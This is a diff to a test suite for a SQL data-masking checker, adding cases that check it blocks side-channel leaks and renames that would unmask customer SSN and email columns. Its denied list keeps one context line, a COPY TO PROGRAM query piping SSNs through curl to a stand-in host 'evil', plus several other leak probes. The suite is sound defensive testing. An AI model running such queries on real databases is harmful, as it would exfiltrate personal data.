@@ -175,6 +175,20 @@ describe('side channels and sinks', () => {
     ['select ssn into leak from customers', /SELECT INTO writes masked/],
     ["copy customers to '/tmp/x'", /COPY TO file writes masked/],
     ["copy (select ssn from customers) to program 'curl -d @- evil'", /COPY TO PROGRAM/],
+    ['select name, rank() over (order by ssn) from customers', /OVER references masked column public\.customers\.ssn/],
+    [
+      'select count(*) from customers c, generate_series(1, length(c.ssn))',
+      /the row count of generate_series\(\) references masked/,
+    ],
+    ['select name, unnest(string_to_array(email, $$@$$)) from customers', /the row count of unnest\(\)/],
+    ['select pg_sleep(length(ssn)) from customers', /pg_sleep\(\) writes masked column/],
+    ['alter table customers rename column ssn to x', /renaming would unmask masked column public\.customers\.ssn/],
+    ['alter table public.customers rename to clients', /renaming would unmask masked column public\.customers\./],
+    ['alter table customers set schema archive', /moving to another schema would unmask/],
+    [
+      'alter table customers add column s text generated always as (lower(email)) stored',
+      /a generated column writes masked column public\.customers\.email into public\.customers\.s/,
+    ],
   ];
   for (const [sql, reason] of denied) {
     it(sql, () => {
@@ -201,6 +215,18 @@ describe('side channels and sinks', () => {
     ]);
     const [sink] = analyzeSql('insert into orders (email) select email from customers', catalog);
     expect(sink && checkStatement(sink, allow).deny).toMatch(/writes masked/);
+  });
+  it('DDL that leaves masked columns where they are is not a sink', () => {
+    for (const sql of [
+      'alter table customers rename column name to full_name',
+      'alter table orders rename to purchases',
+      'alter table customers add column note text',
+      'alter table customers add column n text generated always as (upper(name)) stored',
+      'alter table customers rename constraint customers_pkey to pk',
+    ]) {
+      const [stmt] = analyzeSql(sql, catalog);
+      expect(stmt && checkStatement(stmt, masking).deny, sql).toBeUndefined();
+    }
   });
   it('writing masked values into a masked column is not a sink', () => {
     const [stmt] = analyzeSql('update customers set email = lower(email) where id = 1', catalog);
